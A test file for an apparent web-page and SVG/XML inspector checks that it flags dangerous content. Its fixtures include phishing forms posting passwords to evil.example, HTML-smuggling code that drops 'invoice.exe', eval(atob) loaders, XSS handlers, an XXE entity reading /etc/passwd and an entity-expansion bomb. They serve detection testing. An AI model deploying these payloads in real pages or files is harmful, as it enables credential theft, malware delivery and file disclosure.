import { describe, expect, test } from 'vitest';
import { levelOf, type Report } from '../../../src/workers/inspect/report.ts';
import { pe } from '../../files/executables.ts';
import { mutated, truncated } from '../../files/mutated.ts';
import { mail, page, svg } from '../../files/pages.ts';
import { randomOf } from '../../files/random.ts';
import { zip } from '../../files/zip.ts';
import { factsOf, inspect, textOf } from './inspecting.ts';

const base64 = (bytes: Uint8Array | string) => Buffer.from(bytes).toString('base64');
const program = pe();

function codes({ findings }: Report): string[] {
  return findings.map(({ code, level, params }) => `${code === 'inside' ? `inside ${params.code}` : code} ${level}`);
}

describe('what a page is', () => {
  test.for([
    ['by its document type', page('x'), 'a', 'html'],
    ['by its first tag', '<!-- saved --><html><body>x', 'a', 'html'],
    ['by its name, whatever it begins with', 'hello <b>you</b>', 'a.html', 'html'],
    ['by a script in front', '<script>alert(1)</script>', 'a', 'html'],
    ['XHTML', '<?xml version="1.0"?><html xmlns="http://www.w3.org/1999/xhtml"/>', 'a.xhtml', 'html'],
    ['SVG', svg(''), 'a.svg', 'svg'],
    ['SVG behind a document type with words of its own', svg('', '<!DOCTYPE svg [<!ENTITY a "b">]>'), 'a', 'svg'],
    ['other XML', '<?xml version="1.0"?><project><name>x</name></project>', 'pom.xml', 'xml'],
    ['a saved page', mail([{ type: 'text/html', content: page('x') }]), 'a.mhtml', 'mail'],
    ['Markdown that begins with a tag', '<div align="center">\n\n# Hello\n</div>\n', 'README.md', 'text'],
    ['a sentence about tags', 'The <html> tag comes first.\n', 'a.txt', 'text'],
  ] as const)('%s', async ([, text, name, type]) => expect((await inspect(text, name)).type).toBe(type));

  test('a plain one is safe, and shows its title and what people would read', async () => {
    const report = await inspect(page('<h1>Shopping</h1><p>Milk &amp; bread<style>p{}</style>'), 'a.html');
    expect([codes(report), levelOf(report)]).toEqual([[], 'safe']);
    expect(report.facts.find(({ label }) => label === 'title')?.params).toEqual({ value: 'Notes' });
    expect(textOf(report)).toBe('Shopping\nMilk & bread');
    expect(factsOf(report, 'text')).toMatchObject([{ encoding: 'UTF-8', lines: 2 }]);
  });

  test('a plain SVG and plain XML are safe, and show their source', async () => {
    for (const text of [svg('<path d="M0 0"/>'), '<?xml version="1.0"?>\n<build><script>echo</script></build>']) {
      const report = await inspect(text, 'a');
      expect([codes(report), levelOf(report)]).toEqual([[], 'safe']);
      expect(textOf(report)).toContain('<?xml');
    }
  });
});

const BLOB = `<script>var b = new Blob([Uint8Array.from(atob(d), c => c.charCodeAt(0))]);
  a.href = URL.createObjectURL(b); a.download = 'invoice.exe'; a.click();</script>`;
const CASES: readonly (readonly [what: string, text: string, ...expected: string[]])[] = [
  ['a script', page('<script>let a = 1</script>'), 'page-script careful'],
  ['a script in capitals, with a slash in it', page('<SCRIPT/x>1</SCRIPT>'), 'page-script careful'],
  ['a handler', page('<img src=x onerror=alert(1)>'), 'page-script careful'],
  ['a handler behind a slash', page('<svg/onload=alert(1)>'), 'page-script careful'],
  ['a script as an address', page('<a href="java\tscript:alert(1)">x</a>'), 'page-script careful'],
  [
    'a script as an address in references',
    page('<a href="&#106;avascript&colon;alert(1)">x</a>'),
    'page-script careful',
  ],
  ['a script from elsewhere', page('<script src="//cdn.example/x.js"></script>'), 'page-script-elsewhere careful'],
  ['a frame', page('<iframe src="https://evil.example/"></iframe>'), 'page-frame careful'],
  ['a page in a frame', page('<iframe srcdoc="&lt;script&gt;1&lt;/script&gt;"></iframe>'), 'page-script careful'],
  ['a plug-in', page('<object data="https://evil.example/a.swf"></object>'), 'page-plugin careful'],
  [
    'a way on',
    page('', '<meta http-equiv="Refresh" content="0; URL=\'https://evil.example\'">'),
    'page-redirect careful',
  ],
  ['a way on by script', page('<script>location.href = "https://evil.example"</script>'), 'page-redirect careful'],
  [
    'a password that is sent elsewhere',
    page('<form action="https://evil.example/p.php"><input name=a><input type=password></form>'),
    'page-password-sent dangerous',
  ],
  [
    'a password that a button sends elsewhere',
    page('<form><input type="password"><button formaction="https://evil.example/p">Log in</button></form>'),
    'page-password-sent dangerous',
  ],
  [
    'a password that a script sends',
    page('<input type=password id=p><script>fetch(u, { body: p.value })</script>'),
    'page-password-script dangerous',
  ],
  ['a password that goes nowhere', page('<form action="/login"><input type=password></form>'), 'page-password careful'],
  ['a form', page('<form action="https://forms.example/x"><input></form>'), 'page-form careful'],
  ['a script that saves files', page(BLOB), 'page-saves careful'],
  ['a program in base64', page(`<script>d = "${base64(program)}"</script>${BLOB}`), 'page-blob dangerous'],
  [
    'an archive in base64',
    page(`<p id=d hidden>${base64(zip([{ path: 'a.exe', content: program, store: true }]))}</p>`),
    'page-blob dangerous',
  ],
  [
    'a program in digits',
    page(`<script>d = "${Buffer.from(program).toString('hex')}"</script>`),
    'page-blob dangerous',
  ],
  ['a program in numbers', page('<script>d = [77,90,144,0,3,0,0,0]</script>'), 'page-smuggles dangerous'],
  ['a script that decodes and runs', page('<script>eval(atob("YWxlcnQoMSk="))</script>'), 'page-hidden dangerous'],
  ['a script that writes a page', page('<script>document.write(unescape("%3C"))</script>'), 'page-hidden dangerous'],
  [
    'a page in an address',
    page(`<iframe src="data:text/html;base64,${base64('<script>1</script>')}"></iframe>`),
    'inside page-script careful',
  ],
  ['a masked link', page('<a href="https://evil.example/">www.paypal.com</a>'), 'link-masked dangerous'],
  [
    'a masked link behind words',
    page('<a href="https://evil.example/">&#127873; Click: <b>pay&#8203;pal&#12290;com</b>/gift</a>'),
    'link-masked dangerous',
  ],
  ['things from elsewhere', page('<img src="https://track.example/1.gif">'), 'page-fetches safe'],
  ['SVG: a script', svg('<script>alert(1)</script>'), 'page-script careful'],
  ['SVG: a script in CDATA', svg('<script><![CDATA[eval(atob("YQ=="))]]></script>'), 'page-hidden dangerous'],
  ['SVG: a handler', svg('<g onload="alert(1)"/>'), 'page-script careful'],
  ['SVG: a script of another prefix', svg('').replace('<circle', '<s:script/><circle'), 'page-script careful'],
  [
    'SVG: an address set later',
    svg('<a><set attributeName="href" to="javascript:alert(1)"/></a>'),
    'page-script careful',
  ],
  ['SVG: a piece of a page', svg('<foreignObject><p>x</p></foreignObject>'), 'svg-page careful'],
  ['SVG: a picture from elsewhere', svg('<image xlink:href="https://track.example/1.png"/>'), 'page-fetches careful'],
  ['SVG: a link', svg('<a xlink:href="https://evil.example"><text>paypal.com</text></a>'), 'link-masked dangerous'],
  [
    'SVG: words that unfold',
    svg('&c;', '<!DOCTYPE svg [<!ENTITY a "aaaa"><!ENTITY b "&a;&a;&a;&a;"><!ENTITY c "&b;&b;&b;&b;">]>'),
    'xml-bomb dangerous',
  ],
  [
    'SVG: a file of the computer',
    svg('&a;', '<!DOCTYPE svg [<!ENTITY a SYSTEM "file:///etc/passwd">]>'),
    'xml-fetches careful',
  ],
  [
    'XML with a script of a page',
    '<?xml version="1.0"?><a xmlns:h="http://www.w3.org/1999/xhtml"><h:script>1</h:script></a>',
    'page-script careful',
  ],
  [
    'XML with a stylesheet from elsewhere',
    '<?xml version="1.0"?><?xml-stylesheet type="text/xsl" href="https://evil.example/a.xsl"?><a/>',
    'xml-fetches careful',
  ],
  [
    'a saved page with a script',
    mail([{ type: 'text/html', content: page('<script>1</script>') }]),
    'inside page-script careful',
  ],
  [
    'a saved page in another encoding',
    mail([{ type: 'text/html', content: page('<p onclick="x()">'), encoding: 'quoted-printable' }]),
    'inside page-script careful',
  ],
  [
    'a mail with a program',
    mail([{ type: 'application/octet-stream', content: program, encoding: 'base64', attached: 'a.exe' }]),
    'inside program-windows dangerous',
  ],
];

describe('what a page does', () => {
  for (const [what, text, ...expected] of CASES) {
    test(what, async () => expect(codes(await inspect(text, 'a'))).toEqual(expect.arrayContaining(expected)));
  }

  test('what runs code is never called safe, in an archive neither', async () => {
    for (const text of [page('<script>1</script>'), svg('<script>1</script>')]) {
      expect(levelOf(await inspect(text, 'a'))).not.toBe('safe');
      expect(levelOf(await inspect(zip([{ path: 'a.svg', content: text }]), 'a.zip'))).not.toBe('safe');
    }
  });

  test('a program of Windows that is a page says what it does as well', async () => {
    expect(codes(await inspect('<script>eval(atob("YQ=="))</script>', 'a.hta'))).toEqual(
      expect.arrayContaining(['script-windows dangerous', 'page-hidden dangerous']),
    );
  });

  test('a password, a data island and a void link are not told as what they are not', async () => {
    const quiet = '<script type="application/json">{"a":"eval(atob("}</script><a href="javascript:void(0)">x</a>';
    expect(codes(await inspect(page(quiet), 'a'))).toEqual([]);
  });

  test('an address that is written in base64 is judged', async () => {
    const { links } = await inspect(page(`<script>x = atob("${base64('https://evil.example/go')}")</script>`), 'a');
    expect(links).toContain('https://evil.example/go');
  });

  test('secrets in it are masked', async () => {
    const token = `ghp_${'a1B2'.repeat(9)}`;
    const report = await inspect(page(`<p>token ${token}</p>`, `<title>${token}</title>`), 'a.html');
    expect(report.secrets).toContain('githubToken');
    expect(JSON.stringify(report)).not.toContain(token);
  });
});

describe('pages that are made to keep somebody busy', () => {
  const long = 1_000_000;
  test.for([
    ['opened and never closed', '<a><b>'.repeat(long)],
    ['closed and never opened', `<html>${'<a>'.repeat(long)}${'</b>'.repeat(long)}`],
    ['one tag of many attributes', `<html ${'a=1 onx=1 '.repeat(long)}>`],
    ['one long attribute', `<html a="${'x'.repeat(long * 5)}`],
    ['comments', `<html>${'<!--'.repeat(long)}`],
    ['references', `<html>${'&amp;&#1'.repeat(long)}`],
    ['base64', `<html>${'QUJD'.repeat(long)}`],
    ['base64 in pieces', `<html>${`${'QUJD'.repeat(70)} `.repeat(long / 100)}`],
    ['frames in frames', page(`<iframe srcdoc="${'&lt;iframe srcdoc=x&gt;'.repeat(long / 10)}">`)],
    ['forms', `<html>${'<form><input type=password>'.repeat(long / 10)}`],
    ['entities', `<?xml version="1.0"?><!DOCTYPE svg [${'<!ENTITY a SYSTEM "x'.repeat(long / 10)}`],
    [
      'boundaries',
      `MIME-Version: 1.0\nContent-Type: multipart/mixed; boundary=a\n\n${'--a\nboundary=b\n\n'.repeat(long / 10)}`,
    ],
  ] as const)('%s', async ([, text]) => {
    const report = await inspect(text, 'a', { milliseconds: 15_000 });
    expect(report.limits.map(({ limit }) => limit)).not.toContain('milliseconds');
  });

  test('cut off anywhere and changed at random, there is a verdict', async () => {
    const random = randomOf(7);
    const files = CASES.map(([, text]) => new TextEncoder().encode(text));
    for (const bytes of files.slice(0, 12)) {
      for (const part of truncated(bytes.subarray(0, 400))) expect((await inspect(part, 'a.html')).mime).toMatch(/\//);
    }
    for (let round = 0; round < 1_000; round++) {
      const bytes = files[round % files.length] ?? new Uint8Array(0);
      const report = await inspect(mutated(bytes, random), 'a.html', { milliseconds: 2_000 });
      expect(report.limits.map(({ limit }) => limit)).not.toContain('milliseconds');
    }
  });
});
